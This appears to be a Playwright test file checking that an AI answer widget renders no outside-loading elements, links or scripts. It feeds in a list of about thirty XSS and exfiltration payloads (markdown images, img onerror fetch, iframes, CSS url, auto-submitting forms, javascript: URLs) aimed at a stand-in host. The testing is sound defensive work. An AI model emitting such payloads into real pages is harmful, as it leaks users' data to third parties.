"""Answers that try to reach out: every shape of it in every field, through the real box, in one page.

A reader's question, the conversation or a page's address must not leave without a click. So nothing that an answer holds
becomes an element that loads, a link to another site, or a script.
"""

from __future__ import annotations

from collections.abc import Callable
from typing import Any
from urllib.parse import urlsplit

from playwright.sync_api import Page

from tests.browser.asking import SHADOW, stream
from tests.browser.conftest import Watch
from tests.browser.double import Served, answer

FAR = "https://o.example/c?q=secret"
PAYLOADS = (
    f"![x]({FAR})",
    f"[![x]({FAR})]({FAR})",
    f"![x][r]\n\n[r]: {FAR}",
    f"[go]({FAR})",
    f"<{FAR}>",
    FAR,
    "//o.example/c",
    f'<img src="{FAR}">',
    f'<img src=x onerror="fetch(`{FAR}`)">',
    f'<svg><image href="{FAR}"/></svg>',
    f'<svg onload="alert(1)"><use href="{FAR}#x"/></svg>',
    f'<iframe src="{FAR}"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    f'<link rel="stylesheet" href="{FAR}">',
    f'<link rel="prefetch" href="{FAR}"><link rel="dns-prefetch" href="//o.example">',
    f"<style>@import '{FAR}'; * {{ background: url({FAR}) }}</style>",
    f'<p style="background:url({FAR})">x</p>',
    f'<form action="{FAR}"><input name="q" autofocus onfocus="this.form.submit()"></form>',
    f'<video src="{FAR}" poster="{FAR}"></video><audio src="{FAR}"></audio>',
    f'<object data="{FAR}"></object><embed src="{FAR}">',
    f'<meta http-equiv="refresh" content="0;url={FAR}"><base href="https://o.example/">',
    "<script>alert(1)</script>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    f'```mermaid\ngraph TD; A["<img src={FAR}>"]\n```',
    f"$$\\href{{{FAR}}}{{x}}$$ \\includegraphics{{{FAR}}}",
    f"<math><mtext><img src={FAR}></mtext></math>",
    "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= 1 %>",
    f"[x](java\tscript:alert(1)) [y]({FAR} 'title')",
    f"`{FAR}` **![x]({FAR})**",
)


def _cited(payload: str, **fields: Any) -> dict[str, Any]:
    evidence = {
        "id": "e1",
        "title": "T",
        "section": ["S"],
        "url": "/repo/garden/smell/",
        "locator": "x",
        "lang": "zh",
    } | fields
    quote = fields.get("quote", payload)
    return answer(
        answer=quote, evidence=[evidence], citations=[{"evidence": "e1", "quote": quote, "start": 0, "end": 1}]
    )


FIELDS: dict[str, Callable[[str], dict[str, Any]]] = {
    "the answer": lambda p: answer(answer=p),
    "a quote": _cited,
    "a title": lambda p: _cited("x", title=p, section=[p]),
    "an address": lambda p: _cited("x", url=p),
    "a language": lambda p: _cited("x", lang=p),
    "a doubt": lambda p: answer(answer="x", uncertainties=[p]),
    "a next question": lambda p: answer(answer="x", follow_ups=[p]),
    "a nearest page": lambda p: answer(status="no_answer", answer=p, nearest=[{"title": p, "url": p, "section": [p]}]),
}
LOADS = "img, image, svg, iframe, object, embed, video, audio, source, link, meta, base, script, style, input[type=image], math, form form"

ALL = f"""async (questions) => {{
  const box = document.querySelector("geosmin-ask"), root = box.shadowRoot, found = [];
  box.open();
  for (const question of questions) {{
    root.querySelector(".clear").click();
    box.ask(question);
    for (let i = 0; !root.querySelector(".actions") && i < 400; i++) await new Promise((done) => setTimeout(done, 5));
    for (const chip of root.querySelectorAll(".cite")) {{ chip.click(); await new Promise((done) => setTimeout(done, 10)); }}
    for (const fold of root.querySelectorAll("details")) fold.open = true;
    const links = [...root.querySelectorAll("a")].filter((a) => a.origin !== location.origin).map((a) => a.href);
    const loads = [...root.querySelectorAll("{LOADS}"), ...root.querySelectorAll(".turn [style], .turn [src], .turn [onclick]")];
    if (!root.querySelector(".answer, .help") || links.length || loads.length) found.push([question, links, loads.map((one) => one.outerHTML)]);
  }}
  return found;
}}"""


def test_no_answer_reaches_out(page: Page, answering: Served, watch: Watch) -> None:
    """240 answers in 8 fields: no element that loads, no link elsewhere, no request, no dialog."""
    assert answering.endpoint is not None
    scripts = {}
    for field, shape in FIELDS.items():
        for number, payload in enumerate(PAYLOADS):
            step = {"type": "data-step", "id": "s1", "data": {"text": payload}}
            source = {"type": "source-url", "sourceId": "e1", "url": payload, "title": payload}
            text = {"type": "text-delta", "id": "t1", "delta": payload}
            done = {"type": "data-answer", "data": shape(payload)}
            scripts[f"{field} {number}"] = stream(step, source, text, done)
    assert len(scripts) >= 200
    answering.endpoint.scripts, answering.endpoint.text = scripts, "x " + "\n".join(PAYLOADS)
    requests: list[str] = []
    page.goto(answering.url + "garden/soil/")
    page.on("request", lambda request: None if "/assets/" in request.url else requests.append(request.url))
    page.set_default_timeout(120_000)
    assert page.evaluate(ALL, list(scripts)) == []
    assert {urlsplit(url).netloc for url in requests} == {urlsplit(answering.url).netloc}
    own = ("api/public/qa/chat", "api/public/read", "build.json")
    assert {urlsplit(url).path for url in requests} <= {f"/repo/{path}" for path in own}
    assert len(answering.endpoint.asked) == len(scripts)
    assert (watch.outside, watch.dialogs) == ([], [])


def test_a_copied_answer_holds_no_address_elsewhere(page: Page, answering: Served) -> None:
    """What a reader copies lists sources of this site only."""
    assert answering.endpoint is not None
    answering.endpoint.script = stream({"type": "data-answer", "data": _cited("x", url=FAR)})
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    page.goto(answering.url + "garden/soil/")
    page.evaluate("document.querySelector('geosmin-ask').ask('q')")
    page.locator(".actions").get_by_role("button", name="复制").click()
    page.get_by_role("button", name="已复制").wait_for()
    assert "o.example" not in page.evaluate("navigator.clipboard.readText()")


def test_the_page_keeps_its_own_policy(page: Page, answering: Served) -> None:
    """The box needs no exception: it brings no style element and no style attribute but its own two lengths."""
    page.goto(answering.url + "garden/soil/")
    page.locator(".launch").click()
    assert page.evaluate(f"{SHADOW}.querySelectorAll('style, link, script').length") == 0
